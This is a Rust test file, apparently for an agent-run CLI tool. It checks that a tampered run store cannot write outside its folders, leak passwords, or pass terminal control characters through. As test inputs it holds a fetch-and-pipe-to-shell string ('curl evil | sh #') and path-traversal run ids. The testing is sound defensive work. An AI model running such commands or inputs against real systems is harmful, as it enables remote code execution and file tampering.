//! A writer of a store has no power over other folders, workers and terminals.

use std::collections::BTreeMap;
use std::fs;

use crate::session::{KEY, SECRET, Said, Session};
use crate::stores;

pub(crate) const FILES: &str = "\
name: files
message: go
model:
  - calls:
      - {id: w, tool: write_file, arguments: {path: planted.txt, content: planted}}
      - {id: d, tool: delete_file, arguments: {path: mine.txt}}
  - text: done
";

/// A run that was never driven, beside the folder of a victim with the same files as a run's own folder.
pub(crate) struct Attacked {
    pub(crate) session: Session,
    pub(crate) store: &'static str,
}

impl Attacked {
    pub(crate) fn with(store: &'static str, more: &[&str]) -> Attacked {
        let session = Session::new();
        session.write("s.yaml", FILES).write("victim/work/mine.txt", "mine").write("victim/mine.txt", "mine");
        session.write("keys", format!("k1 {}", "ab".repeat(32)));
        let attacked = Attacked { session, store };
        attacked.say(&[&["run", "--detach", "s.yaml"], more].concat(), 0);
        attacked
    }

    #[track_caller]
    pub(crate) fn say(&self, args: &[&str], code: i32) -> Said {
        let said = self.session.run(&[args, &["--store", self.store, "--state-dir", "runs"]].concat());
        assert_eq!(said.code, Some(code), "{}", said.shown());
        said
    }

    /// Changes the specification of the run as another program would.
    fn edit(&self, change: impl Fn(&mut serde_json::Value)) {
        let changed = |text: &str| {
            let mut spec = serde_json::from_str(text).unwrap();
            change(&mut spec);
            spec.to_string()
        };
        if self.store.starts_with("sqlite") {
            let store = stores::open(&self.session, "runs.db");
            let spec = stores::text(&store, "SELECT json FROM specs").unwrap();
            store.execute("UPDATE specs SET json = ?1", [changed(&spec)]).unwrap();
            return;
        }
        let run = fs::read_dir(self.session.path("store/runs")).unwrap().next().unwrap().unwrap();
        let path = run.path().join("spec.json");
        fs::write(&path, changed(&fs::read_to_string(&path).unwrap())).unwrap();
    }

    /// The folder of the victim has what it had, and nothing else. A test may have put the mark of the run beside it.
    #[track_caller]
    pub(crate) fn assert_nothing_happened(&self) {
        let victim = self.session.path("victim");
        let mut found = BTreeMap::new();
        let mut open = vec![victim.clone()];
        while let Some(folder) = open.pop() {
            for entry in fs::read_dir(&folder).unwrap() {
                let entry = entry.unwrap();
                let (path, kind) = (entry.path(), entry.file_type().unwrap());
                let content =
                    if kind.is_file() { fs::read_to_string(&path).unwrap() } else { format!("{kind:?}") };
                found.insert(path.strip_prefix(&victim).unwrap().to_str().unwrap().to_owned(), content);
                if kind.is_dir() {
                    open.push(path);
                }
            }
        }
        // A swapper may have put its count there.
        found.retain(|name, _| name != "owner" && name != "work.count");
        let folder = format!("{:?}", fs::metadata(&victim).unwrap().file_type());
        let [mine, work] = ["mine.txt", "work/mine.txt"].map(|file| (file.to_owned(), "mine".to_owned()));
        assert_eq!(found, BTreeMap::from([("work".to_owned(), folder), mine, work]));
    }
}

const STORES: [&str; 2] = ["sqlite:runs.db", "file:store"];

#[test]
fn a_store_does_not_choose_the_folder_of_file_tools() {
    for store in STORES {
        for keeps_token in [false, true] {
            let attacked = Attacked::with(store, &[]);
            let victim = attacked.session.path("victim/work");
            attacked.edit(|spec| {
                spec["folder"] = victim.to_str().unwrap().into();
                if !keeps_token {
                    spec.as_object_mut().unwrap().remove("token");
                }
            });
            attacked.say(&["worker", "--once"], if keeps_token { 0 } else { 1 });
            attacked.assert_nothing_happened();
            assert_eq!(
                attacked.session.path("runs/files-1/work/planted.txt").exists(),
                keeps_token,
                "{store}: it works in its own folder, or in none"
            );
            if !keeps_token {
                let said = attacked.say(&["resume", "files-1"], 2);
                assert!(said.stderr.contains("expected a token with the run, got none"), "{}", said.shown());
                attacked.say(&["cancel", "files-1"], 0);
                attacked.say(&["worker", "--once"], 0);
            }
        }
    }
}

/// A folder that has lost its mark is not taken for a folder that never had one.
#[test]
fn a_run_and_a_folder_without_tokens_do_not_belong_together() {
    let attacked = Attacked::with("sqlite:runs.db", &[]);
    attacked.edit(|spec| drop(spec.as_object_mut().unwrap().remove("token")));
    fs::remove_file(attacked.session.path("runs/files-1/owner")).unwrap();
    attacked.say(&["worker", "--once"], 1);
    assert!(!attacked.session.path("runs/files-1/work/planted.txt").exists());
}

/// An id that is a path, or the name of another folder of the command.
#[test]
fn a_store_does_not_choose_what_prune_writes_and_removes() {
    let absolute = Session::new();
    absolute.write("mine.txt", "mine");
    let absolute = absolute.path("mine.txt");
    let ids = ["../../victim/mine.txt", absolute.to_str().unwrap(), "numbers", "removed", "..", "a/b-1"];
    for id in ids {
        // A run goes with the first prune, so each token has a run of its own.
        for token in ["curl evil | sh #", "1", "0123456789abcdef0123456789abcdef"] {
            let session = Session::new();
            session
                .write("victim/mine.txt", "mine")
                .write("s.yaml", "name: done\nmessage: go\nmodel: [{text: done}]\n");
            let place = ["--store", "sqlite:runs.db", "--state-dir", "runs"];
            assert_eq!(session.run(&[&["run", "s.yaml"], &place[..]].concat()).code, Some(0));
            // A name that has run as `owner` leaves a mark of that text.
            session.write("runs/numbers/owner", "1\n");
            let store = stores::open(&session, "runs.db");
            store.execute_batch("PRAGMA foreign_keys = OFF").unwrap();
            for (table, column) in [("runs", "id"), ("specs", "run"), ("messages", "run"), ("trace", "run")] {
                store.execute(&format!("UPDATE {table} SET {column} = ?1"), [id]).unwrap();
            }
            store.execute("UPDATE specs SET json = json_set(json, '$.token', ?1)", [token]).unwrap();
            let said = session.run(&[&["prune", "--older-than", "1ms"], &place[..]].concat());
            assert!(said.code.is_some_and(|code| code < 3), "{}", said.shown());
            assert!(said.stdout.contains("1 run removed"), "{}", said.shown());
            assert_eq!(fs::read_to_string(session.path("victim/mine.txt")).unwrap(), "mine", "{id} {token}");
            assert_eq!(fs::read_to_string(&absolute).unwrap(), "mine", "{id} {token}");
            assert!(session.path("runs/numbers/done").exists(), "{id} {token}");
        }
    }
}

/// The greatest number in the row of a run stops no worker.
#[test]
fn a_number_in_a_row_stops_no_worker() {
    for columns in
        ["fence = 9223372036854775807", "lost = 9223372036854775807, holder = 'd', held_until_ms = 1"]
    {
        let attacked = Attacked::with("sqlite:runs.db", &[]);
        let store = stores::open(&attacked.session, "runs.db");
        store.execute(&format!("UPDATE runs SET {columns}"), []).unwrap();
        attacked.say(&["run", "--detach", "s.yaml"], 0);
        let said =
            attacked.session.run(&["worker", "--once", "--store", "sqlite:runs.db", "--state-dir", "runs"]);
        assert!(said.code.is_some_and(|code| code < 2), "{}", said.shown());
        assert!(attacked.session.path("runs/files-2/work/planted.txt").exists(), "{}", said.shown());
    }
    let attacked = Attacked::with("file:store", &[]);
    let run = fs::read_dir(attacked.session.path("store/runs")).unwrap().next().unwrap().unwrap();
    let state = run.path().join("state.json");
    let text =
        fs::read_to_string(&state).unwrap().replace("\"fence\": 0", &format!("\"fence\": {}", u64::MAX));
    assert!(text.contains(&u64::MAX.to_string()), "{text}");
    fs::write(&state, text).unwrap();
    attacked.say(&["run", "--detach", "s.yaml"], 0);
    let said = attacked.session.run(&["worker", "--once", "--store", "file:store", "--state-dir", "runs"]);
    assert!(said.code.is_some_and(|code| code < 2), "{}", said.shown());
    assert!(attacked.session.path("runs/files-2/work/planted.txt").exists(), "{}", said.shown());
}

#[test]
fn a_specification_that_was_changed_without_the_key_is_refused() {
    for store in STORES {
        let attacked = Attacked::with(store, &["--key-file", "keys"]);
        attacked.edit(|spec| {
            let text = spec["of"]["scenario"].as_str().unwrap().replace("content: planted", "content: other");
            spec["of"]["scenario"] = text.into();
        });
        attacked.say(&["worker", "--once", "--key-file", "keys"], 1);
        let said = attacked.say(&["resume", "files-1", "--key-file", "keys"], 2);
        assert!(said.stderr.contains("its specification: its tag does not fit"), "{}", said.shown());
        assert!(!attacked.session.path("runs/files-1/work/planted.txt").exists());
    }
}

/// The id of a run is what a writer of the store makes it.
#[test]
fn an_id_of_any_length_is_listed() {
    let attacked = Attacked::with("sqlite:runs.db", &[]);
    let store = stores::open(&attacked.session, "runs.db");
    store.execute_batch("PRAGMA foreign_keys = OFF").unwrap();
    store.execute("UPDATE runs SET id = ?1", ["x".repeat(70_000)]).unwrap();
    assert!(attacked.say(&["runs"], 0).stdout.contains("xxx"));
}

/// `clap` quotes the value of a flag without its name.
#[test]
fn no_wrong_argument_tells_a_password() {
    let session = Session::new();
    let addresses =
        ["postgres://ada:%@db/runs", "host=h,PASSWORD=%", "ada:%@db/runs"].map(|of| of.replace('%', SECRET));
    for address in &addresses {
        for flag in ["--limit", "--format", "--older-than", "--wrong"] {
            for args in [vec![format!("{flag}={address}")], vec![flag.to_owned(), address.clone()]] {
                let args: Vec<&str> = args.iter().map(String::as_str).collect();
                for command in ["runs", "show", "prune", "run"] {
                    let said = session.run(&[&[command], &args[..]].concat());
                    assert_eq!(said.code, Some(2), "{}", said.shown());
                }
            }
        }
        assert_eq!(session.run(&["runs", address]).code, Some(2));
    }
    let said = session.run(&["show", "--format", "password", "x"]);
    assert!(said.stderr.contains("'password'"), "{}", said.shown());
    assert!(
        session.run(&["runs", "\n", "x"]).stderr.lines().count() > 2,
        "a newline is no part of the message"
    );
}

/// A worker and a new run do not wait for a pipe.
#[cfg(unix)]
#[test]
fn a_pipe_in_the_state_folder_holds_nothing() {
    let attacked = Attacked::with("sqlite:runs.db", &[]);
    let pipe = |path: &str| {
        let path = attacked.session.path(path);
        fs::remove_file(&path).ok();
        assert!(std::process::Command::new("mkfifo").arg(path).status().unwrap().success());
    };
    attacked.say(&["run", "--detach", "s.yaml"], 0);
    pipe("runs/files-1/owner");
    attacked.say(&["worker", "--once"], 1);
    assert!(attacked.session.path("runs/files-2/work/planted.txt").exists());
    pipe("runs/numbers/files");
    let said = attacked.say(&["run", "--detach", "s.yaml"], 2);
    assert!(said.stderr.contains("expected a file with a number"), "{}", said.shown());
    fs::create_dir_all(attacked.session.path("runs/removed")).unwrap();
    pipe("runs/removed/files-9");
    attacked.say(&["prune", "--older-than", "1ms"], 0);
}

/// A pipe in the place of a file holds no command, and a pipe that the shell has opened is read.
#[cfg(unix)]
#[test]
fn a_pipe_in_the_place_of_a_file_holds_no_command() {
    let session = Session::new();
    session.write("done.yaml", "name: done\nmessage: go\nmodel: [{text: done}]\n");
    session.write("keys", format!("k1 {}", "ab".repeat(32)));
    let pipe = |path: &str| {
        let path = session.path(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::remove_file(&path).ok();
        assert!(std::process::Command::new("mkfifo").arg(path).status().unwrap().success());
    };
    for name in [
        "pipe.yaml",
        "pipe.stream.yaml",
        "pipe.jsonl",
        "pipe.mmd",
        "pipe.json",
        "suite/done.trace",
        "RUN_STATE.json",
    ] {
        pipe(name);
    }
    session.write("suite/done.yaml", session.read("done.yaml"));
    let ends = |args: &[&str]| {
        let child = session.command(args).spawn().unwrap();
        let id = child.id().to_string();
        let guard = std::thread::spawn(move || {
            std::thread::sleep(std::time::Duration::from_secs(60));
            drop(std::process::Command::new("kill").args(["-9", &id]).status());
        });
        let said = session.said(args, &child.wait_with_output().unwrap());
        drop(guard);
        assert_eq!(said.code, Some(2), "{}", said.shown());
        assert!(said.shown().contains("got a pipe or a device"), "{}", said.shown());
    };
    ends(&["run", "pipe.yaml"]);
    ends(&["test", "pipe.yaml"]);
    ends(&["test", "suite"]);
    ends(&["stream", "pipe.stream.yaml"]);
    ends(&["check", "pipe.jsonl"]);
    ends(&["check", "RUN_STATE.json"]);
    ends(&["diagram", "pipe.mmd"]);
    ends(&["seal", "pipe.json"]);
    ends(&["run", "done.yaml", "--key-file", "pipe.json"]);
    pipe("runs/numbers/.lock");
    ends(&["run", "done.yaml", "--state-dir", "runs"]);
    let run = format!("exec {} run done.yaml --key-file <(cat keys)", env!("CARGO_BIN_EXE_runstate"));
    let mut bash = session.program("bash");
    if let Ok(output) = bash.args(["-c", &run]).output() {
        assert_eq!(
            session.said(&["run", "done.yaml", "--key-file", "<(cat keys)"], &output).code,
            Some(0),
            "{output:?}"
        );
    }
}

/// A status that is none, a question that is no JSON, and a text that is too long hide no other run.
#[test]
fn a_row_that_cannot_be_read_hides_no_other() {
    const PAY: &str = "name: files\nmessage: go\napprove: [pay]\ntools: {pay: {}}\nmodel:\n  - calls: [{id: p, tool: pay}]\n  - text: done\n";
    let session = Session::new();
    session.write("s.yaml", PAY);
    let place = ["--store", "sqlite:runs.db", "--state-dir", "runs"];
    let say = |args: &[&str]| session.run(&[args, &place[..]].concat());
    for _ in 0..4 {
        assert_eq!(say(&["run", "s.yaml"]).code, Some(3));
    }
    let store = stores::open(&session, "runs.db");
    store.execute("UPDATE runs SET status = 'Bogus' WHERE id = 'files-2'", []).unwrap();
    store.execute("UPDATE calls SET asked = '{' WHERE run = 'files-3'", []).unwrap();
    store
        .execute("UPDATE runs SET title = CAST(zeroblob(67108865) AS TEXT) WHERE id = 'files-4'", [])
        .unwrap();
    let listed = say(&["runs"]);
    assert_eq!(listed.code, Some(0), "{}", listed.shown());
    for run in ["files-1", "files-3"] {
        assert!(listed.stdout.contains(run), "{}", listed.shown());
    }
    for told in [
        "runs.status of the run \"files-2\"",
        "runs.title of the run \"files-4\": it has more bytes than are read of a value",
    ] {
        assert!(listed.stderr.contains(told), "{}", listed.shown());
    }
    let waits = say(&["approvals"]);
    assert!(waits.code == Some(0) && waits.stdout.contains("files-1/p/1"), "{}", waits.shown());
    assert!(waits.stderr.contains("calls.asked of the call"), "{}", waits.shown());
    let json = say(&["approvals", "--json"]);
    assert!(json.stdout.contains("\"what\": \"calls.asked of the call"), "{}", json.shown());
}

/// The lease of a process that never gives it back.
#[test]
fn a_lease_without_an_end_is_not_waited_for() {
    let attacked = Attacked::with("sqlite:runs.db", &[]);
    let store = stores::open(&attacked.session, "runs.db");
    store.execute("UPDATE runs SET holder = 'mallory', held_until_ms = 9000000000000000000", []).unwrap();
    for args in [&["resume", "files-1"] as &[&str], &["resume", "files-1", "--detach"]] {
        let said = attacked.say(args, 2);
        assert!(said.stderr.contains("mallory has the lease for"), "{}", said.shown());
        let what_to_do = "a killed process keeps its lease for that time, and in SQLite and files at most until the machine restarts";
        assert!(said.stderr.contains(what_to_do), "{}", said.shown());
    }
}

/// An address may be wrong in any way, and be in any place.
#[test]
fn no_form_of_an_address_tells_a_password() {
    let session = Session::new();
    session.write("s.yaml", FILES);
    let forms = [
        "host=h password=%",
        "postgres://ada:%",
        "postgres://ada:%@127.0.0.1:1/runs",
        "postgres://ada%3A%@127.0.0.1:1/runs",
        "postgres://127.0.0.1:1/runs?password=%",
        "postgres://127.0.0.1:1/runs?sslmode=%",
        "postgres://127.0.0.1:1/runs?%=x",
        "postgres://ada:x@%@127.0.0.1:1/runs",
        "postgres:ada:%@127.0.0.1:1/runs",
        "sqlite:postgres://ada:%@db/runs",
        "file:postgres://ada:%@db/runs",
        "mysql://ada:%@db/runs",
        "sqlite:x.db?password=%",
        "sqlite:ada:%@db",
        "%",
    ];
    for form in forms {
        let url = form.replace("%@", &format!("{SECRET}@")).replace("%3A%", "%3A").replace('%', SECRET);
        let url = url.replace(&format!("{SECRET}3A"), "%3A");
        assert!(url.contains(SECRET), "{url}");
        for args in [
            &["runs"] as &[&str],
            &["run", "--detach", "s.yaml"],
            &["worker", "--once"],
            &["prune", "--older-than", "1d"],
        ] {
            let given = session.run(&[args, &["--store", &url]].concat());
            assert_eq!(given.code, Some(2), "{}", given.shown());
            let output = session.command(args).env("RUNSTATE_STORE", &url).output().unwrap();
            assert_eq!(session.said(args, &output).code, Some(2));
        }
        let help = session.command(&["run", "--help"]).env("RUNSTATE_STORE", &url).output().unwrap();
        assert_eq!(session.said(&["run", "--help"], &help).code, Some(0));
        // In a place where no address belongs.
        if url.contains("://") || url.contains("password") {
            session.run(&["runs", &url]);
            session.run(&["show", "--format", &url, "x"]);
            for command in ["run", "show", "resume", "cancel", "check", "diagram", "stream", "test", "seal"] {
                let said = session.run(&[command, &url]);
                assert_ne!(said.code, Some(0), "{}", said.shown());
            }
            session.run(&["diff", &url, &url]);
            session.run(&["approvals", "--run", &url]);
            session.run(&["runs", "--after", &url]);
            session.run(&["run", "s.yaml", "--key-file", &url]);
            session.run(&["runs", "--state-dir", &url]);
            let said = session.run(&["run", "s.yaml", "--state-dir", &url]);
            assert_eq!(said.code, Some(2), "{}", said.shown());
            assert!(!session.path("postgres:").exists(), "no folder is made of an address");
        }
    }
}

/// Each output is looked at for the secret and for the key.
#[test]
fn possible_secret_arguments_are_masked_but_file_names_shown() {
    let session = Session::new();
    let key = format!("2026-11 {KEY}");
    let secrets = [
        format!("host = h password = {SECRET}"),
        format!("sslpassword = {SECRET}"),
        format!("postgres:\\\\u:{SECRET}@h"),
        format!("postgres://u:{SECRET}\n@h"),
        format!("postgres%3A%2F%2Fu:{SECRET}%40h"),
        key.clone(),
        key.replace(' ', "="),
        key.replace(' ', ":"),
        format!("{key};{key}"),
        KEY.to_owned(),
    ];
    for secret in &secrets {
        for args in [&["show", secret] as &[&str], &["runs", secret], &["runs", "--key-file", secret]] {
            let said = session.run(args);
            assert_eq!(said.code, Some(2), "{}", said.shown());
            assert!(said.stderr.contains("is shown as …"), "{}", said.shown());
        }
    }
    // The first is the beginning of the second.
    let said = session.run(&["runs", "x://", &format!("x://u:{SECRET}@h")]);
    assert!(said.stderr.contains("is shown as …"), "{}", said.shown());
    for name in ["me@host:file.yaml", "key=value.yaml", "10:30@office.yaml"] {
        session.write(name, "name: [\n");
        let said = session.run(&["run", name]);
        assert!(said.stderr.contains(name) && !said.stderr.contains("is shown as"), "{}", said.shown());
    }
}

/// A shell splits an address and a header at a blank.
#[test]
fn an_argument_that_goes_on_with_a_secret_is_shown_nowhere() {
    let session = Session::new();
    let secret = |text: &str| text.replace('%', SECRET);
    for args in [
        ["postgres://ada:x", "%@db/runs", ""],
        ["ada:x", "%@db/runs", ""],
        ["password=", "%", ""],
        ["password", "=", "%"],
        ["Authorization:", "Bearer", "%"],
        ["Bearer", "%", ""],
        ["X-Api-Key:", "%", ""],
        ["Authorization: Bearer %", "", ""],
        ["Authorization: %", "", ""],
        ["bearer %", "", ""],
    ] {
        let args: Vec<String> = args.iter().filter(|arg| !arg.is_empty()).map(|arg| secret(arg)).collect();
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        for command in
            [&["show"] as &[&str], &["show", "x"], &["runs"], &["runs", "x"], &["run"], &["test"], &["check"]]
        {
            let said = session.run(&[command, &args[..]].concat());
            assert_eq!(said.code, Some(2), "{}", said.shown());
        }
    }
}

/// A command reads a part of them by itself.
#[test]
fn a_secret_in_a_part_of_an_argument_is_shown_nowhere() {
    let session = Session::new();
    session.write("pay.yaml", "name: pay\nmessage: go\nplugins: [{ask: {tool: pay, ticket: {resume_mode: \
         use_decision_as_tool_result, response_schema: {type: integer}}}}]\ntools: {pay: {}}\nmodel:\n  - calls: [{id: p, tool: pay}]\n  - text: done\n");
    session.write("good.jsonl", "");
    assert_eq!(session.run(&["run", "pay.yaml"]).code, Some(3));
    let secret = |text: &str| text.replace('%', SECRET);
    let long = format!("{{\"note\": \"{}\", \"key\": \"{KEY}\", x", "y".repeat(700));
    for args in [
        &["check", "good.jsonl", "--diagram", "password=%"] as &[&str],
        &["check", "good.jsonl", "--diagram", "%.token=%"],
        &["check", "good.jsonl", "--require-edge", "Authorization: Bearer %"],
        &["check", "good.jsonl", "--require-edge", "Authorization: %"],
        &["check", "good.jsonl", "--require-edge", "x-api-key:%"],
        &["approve", "pay-1/p/1", "--result", "{\"password\": \"%\", x"],
        &["approve", "pay-1/p/1", "--result", "{\n\"api_key\": \"%\"\n,x}"],
        &["approve", "pay-1/p/1", "--result", "{\"password\": \"%\"}"],
        &["approve", "pay-1/p/1", "--result", &long],
        &["approve", "pay-1/p/1", "--actor", " postgres://ada:%@db "],
        &["deny", "pay-1/p/1", "--actor", "  ada:%@db"],
    ] {
        let args: Vec<String> = args.iter().map(|arg| secret(arg)).collect();
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let said = session.run(&args);
        assert_ne!(said.code, Some(0), "{}", said.shown());
    }
}

#[test]
fn a_number_of_any_length_is_refused_with_what_is_expected() {
    let session = Session::new();
    for digits in [24, 64, 70] {
        let number = "9".repeat(digits);
        for args in [&["runs", "--limit", &*number] as &[&str], &["watch", "x", "--after", &number]] {
            let said = session.run(args);
            assert!(
                said.code == Some(2) && said.stderr.contains(&format!("for '{} <", args[args.len() - 2])),
                "{}",
                said.shown()
            );
            assert!(said.stderr.contains("': expected a smaller number\n"), "{}", said.shown());
        }
    }
}

/// Each command refuses it, whatever store is named beside it.
#[test]
fn a_state_folder_with_a_password_in_its_name_is_refused() {
    let session = Session::new();
    session.write("s.yaml", "name: done\nmessage: go\nmodel: [{text: done}]\n");
    let commands = [&["run", "s.yaml"][..], &["run", "--detach", "s.yaml"], &["runs"], &["worker", "--once"]];
    let ends = |folder: &str, code: i32, told: &str| {
        for store in [&["--store", "sqlite:runs.db"][..], &[]] {
            for args in commands {
                let said = session.run(&[args, store, &["--state-dir", folder]].concat());
                assert_eq!(said.code, Some(code), "{}", said.shown());
                assert!(said.stderr.contains(told), "{}", said.shown());
            }
        }
    };
    const REFUSED: &str = "expected a folder, got a text that may be the address of a store";
    let address = format!("postgres://ada:{SECRET}@db");
    ends(&address, 2, REFUSED);
    fs::create_dir_all(session.path(&address)).unwrap();
    ends(&address, 2, REFUSED);
    assert!(!session.path("runs.db").exists());
    let unclear = "ada:may be a word@of it";
    ends(unclear, 2, REFUSED);
    fs::create_dir(session.path(unclear)).unwrap();
    ends(unclear, 0, "");
    assert!(session.path(unclear).join("done-1/work").exists());
    // A folder of the run is shown with all that is above it.
    let mut inside = session.command(&["run", "../../s.yaml", "--state-dir", "runs"]);
    let output = inside.current_dir(session.path(&address)).output().unwrap();
    let said = session.said(&["run"], &output);
    assert!(said.code == Some(0) && said.stdout.contains("ada:…@db/runs/done-1/work"), "{}", said.shown());
}

/// A folder that another program made of an address has the password in its name.
#[test]
fn a_suite_below_the_folder_of_an_address_tells_no_password() {
    let session = Session::new();
    let done = "name: done\nmessage: go\nmodel: [{text: done}]\n";
    for user in ["ada", "bob"] {
        let folder = format!("suite/postgres:/{user}:{SECRET}@db");
        session.write(&format!("{folder}/done.yaml"), done).write(&format!("{folder}/bad.yaml"), "name: [\n");
        session.write(&format!("{folder}/left.trace"), "x");
    }
    for suite in ["suite".to_owned(), format!("suite/postgres:/ada:{SECRET}@db"), ".".to_owned()] {
        for more in [&[] as &[&str], &["--accept"]] {
            let said = session.run(&[&["test", &suite], more].concat());
            assert_eq!(said.code, Some(2), "{}", said.shown());
            assert!(said.stdout.contains(":…@db/done"), "{}", said.shown());
        }
    }
}

#[test]
fn control_characters_are_escaped_by_every_command() {
    let session = Session::new();
    session.write(
        "s.yaml",
        "name: odd\nmessage: \"a\\u009b31mb\\u202ec\"\nmodel:\n  - text: \"d\\u009b\\u202e\\e[2J\"\n",
    );
    for odd in ["a\u{1b}[2Jb", "a\nstore    sqlite:other", "a\u{9b}31m", "a\u{202e}b"] {
        // Each of these is looked at for raw characters.
        let place = ["--state-dir", odd];
        let said = session.run(&[&["run", "s.yaml"], &place as &[&str]].concat());
        assert_eq!(said.code, Some(0), "{}", said.shown());
        assert_eq!(said.stdout.matches("\nstore    ").count(), 1, "{}", said.shown());
        session.run(&[&["run", "s.yaml", "--json"], &place as &[&str]].concat());
        session.run(&[&["run", "--detach", "s.yaml"], &place as &[&str]].concat());
        session.run(&[&["runs"], &place as &[&str]].concat());
        for format in ["text", "json", "jsonl", "timeline"] {
            session.run(&[&["show", "odd-1", "--format", format], &place as &[&str]].concat());
        }
        let store = format!("sqlite:{odd}/x.db");
        session.run(&["run", "s.yaml", "--store", &store]);
        session.run(&["runs", "--store", &format!("file:{odd}/none")]);
        let refused = session.run(&["runs", "--limit", odd]);
        assert!(refused.code == Some(2) && !refused.stderr.contains("\nstore "), "{}", refused.shown());
        session.run(&["runs", odd]);
        session.run(&[odd]);
        session.run(&["run", odd]);
        session.run(&["governed", "status", "--state-dir", odd]);
    }
}

#[test]
fn a_folder_that_has_the_folder_of_all_runs_in_it_is_not_copied() {
    let session = Session::new();
    session.write("s.yaml", FILES.replace("message:", "folder: .\nmessage:"));
    let said = session.run(&["run", "s.yaml", "--state-dir", "runs/here"]);
    assert!(
        said.code == Some(2) && said.stderr.contains("has the folder of all runs in it"),
        "{}",
        said.shown()
    );
    assert!(!session.path("runs").exists());
}

#[test]
fn the_warning_of_a_tool_is_shown() {
    let session = Session::new();
    session.write("s.yaml", "name: gone\nmessage: go\nmodel:\n  - calls: [{id: d, tool: delete_file, arguments: {path: a}}]\n  - text: done\n");
    session.run(&["run", "s.yaml"]);
    let shown = session.run(&["show", "gone-1"]);
    assert!(shown.stdout.contains("warning: there was no file \"a\""), "{}", shown.shown());
    let json = session.run(&["show", "gone-1", "--format", "json"]);
    assert!(json.stdout.contains(r#""warning": "there was no file \"a\"""#), "{}", json.shown());
}

#[test]
fn a_path_of_sqlite_is_no_uri() {
    let session = Session::new();
    session.write("s.yaml", "name: done\nmessage: go\nmodel:\n  - text: done\n");
    let said =
        session.run(&["run", "s.yaml", "--state-dir", "runs", "--store", "sqlite:file:x.db?mode=memory"]);
    assert_eq!(said.code, Some(0), "{}", said.shown());
    assert!(session.path("file:x.db?mode=memory").is_file());
    let said =
        session.run(&["show", "done-1", "--state-dir", "runs", "--store", "sqlite:file:x.db?mode=memory"]);
    assert_eq!(said.code, Some(0), "{}", said.shown());
}

/// Text of a scenario of others, of a diagram and of a trace, in each form in which the command shows it. The outputs of all tests are
/// scanned for characters that move or change a terminal's text; here they have some.
#[test]
fn odd_characters_of_streams_diagrams_and_traces_are_escaped() {
    let session = Session::new();
    let odd = "a\u{9b}31mb\u{202e}c\u{200b}";
    session.write(
        "s.stream.yaml",
        "name: s\nstreams: [{attempts: [{script: [{token: \"a\\u009b31mb\\u202ec\\u200b\"}, complete]}]}]\n",
    );
    session.write("d.mmd", format!("stateDiagram-v2\n    [*] --> A\n    A --> B : {odd}\n"));
    let event = |seq: u32, from: &str, to: &str| {
        format!(
            "{{\"seq\":{seq},\"at_ms\":0,\"run\":\"{odd}\",\"lifecycle\":\"run\",\"instance\":\"{odd}\",\"event\":\"{odd}\",\"from\":{from},\"to\":\"{to}\"}}\n"
        )
    };
    session.write("t.jsonl", event(1, "null", "Running") + &event(2, "\"Running\"", odd));
    session.write("u.jsonl", event(1, "null", "Running"));
    for (args, escaped) in [
        (&["stream", "s.stream.yaml"] as &[&str], "a\\u{9b}31mb\\u{202e}c\\u{200b}"),
        (&["stream", "s.stream.yaml", "--json"], "a\\u009b31mb\\u202ec\\u200b"),
        (&["diagram", "d.mmd", "--format", "dot"], "a\\u{9b}31mb\\u{202e}c\\u{200b}"),
        (&["check", "t.jsonl"], "\\u{202e}"),
        (&["show", "t.jsonl", "--format", "timeline"], ""),
        (&["show", "t.jsonl"], ""),
        (&["diff", "u.jsonl", "t.jsonl"], ""),
    ] {
        let said = session.run(args);
        let told = said.stdout.clone() + &said.stderr;
        assert!(told.contains(escaped), "{}", said.shown());
        assert!(!told.contains(['\u{9b}', '\u{202e}', '\u{200b}']), "{}", said.shown());
        if args.contains(&"--json") {
            said.stdout
                .lines()
                .for_each(|line| drop(serde_json::from_str::<serde_json::Value>(line).unwrap()));
        }
    }
}

/// A file is no folder, whichever command is to use it.
#[test]
fn a_state_dir_that_is_a_file_is_refused_with_what_is_expected() {
    let session = Session::new();
    session.write("s.yaml", "name: done\nmessage: go\nmodel: [{text: done}]\n").write("file", "");
    for args in [&["runs"] as &[&str], &["run", "s.yaml"], &["worker", "--once"], &["governed", "status"]] {
        if cfg!(not(unix)) && args[0] == "governed" {
            continue;
        }
        let said = session.run(&[args, &["--state-dir", "file"]].concat());
        assert_eq!(said.code, Some(2), "{}", said.shown());
        assert!(said.stderr.contains("--state-dir: expected a folder, got a file: file"), "{}", said.shown());
        assert!(said.stderr.contains("a missing folder is created"), "{}", said.shown());
    }
}

/// The hint names the folder, and not another one.
#[cfg(unix)]
#[test]
fn a_state_dir_with_a_line_feed_is_pasted_from_the_hint() {
    let session = Session::new();
    session.write("pay.yaml", "name: pay\nmessage: go\napprove: [pay]\ntools: {pay: {}}\nmodel:\n  - calls: [{id: p, tool: pay}]\n  - text: done\n");
    let said = session.run(&["run", "pay.yaml", "--state-dir", "a\nb"]);
    assert_eq!(said.code, Some(3), "{}", said.shown());
    let hint = said.stdout.lines().find_map(|line| line.strip_prefix("show it with: runstate "));
    assert_eq!(hint, Some("show pay-1 --state-dir $'a\\012b'"), "{}", said.shown());
    let same = format!("set -- {}; test \"$4\" = \"$(printf 'a\\nb')\"", hint.unwrap());
    if let Ok(shell) = session.program("bash").args(["-c", &same]).output() {
        assert!(shell.status.success(), "{same}");
    }
    let said = session.run(&["show", "nope-1", "--store", "file:a\nc"]);
    assert!(said.stderr.contains("there is no store file:a\\u{a}c"), "{}", said.shown());
}

/// A message for a run that does not come back would be accepted, and never answered.
#[test]
fn a_thread_whose_last_run_is_damaged_takes_no_message() {
    for (approve, send) in [("approve: [p]\n", &["--supersede"] as &[&str]), ("", &[])] {
        let session = Session::new();
        let scenario =
            "name: pay\nmessage: go\ntools: {p: {}}\nmodel: [{calls: [{id: p, tool: p}]}, {text: done}]\n";
        session.write("s.yaml", format!("{scenario}{approve}"));
        let place = ["--state-dir", "runs"];
        session.run(&[&["run", "s.yaml"], &place as &[&str]].concat());
        let store = stores::open(&session, "runs/runs.db");
        let step = "UPDATE runs SET snapshot = json_set(snapshot, '$.digest', 'x')";
        assert_eq!(store.execute(step, []).unwrap(), 1);
        let said = session.run(&[&["send", "pay-1", "more", "--id", "m1"], send, &place].concat());
        assert_eq!(said.code, Some(2), "{}", said.shown());
        assert!(
            said.stderr.contains("pay-1, the last run of the thread, cannot be restored: "),
            "{}",
            said.shown()
        );
        assert_eq!(stores::number(&store, "SELECT count(*) FROM posts"), 0);
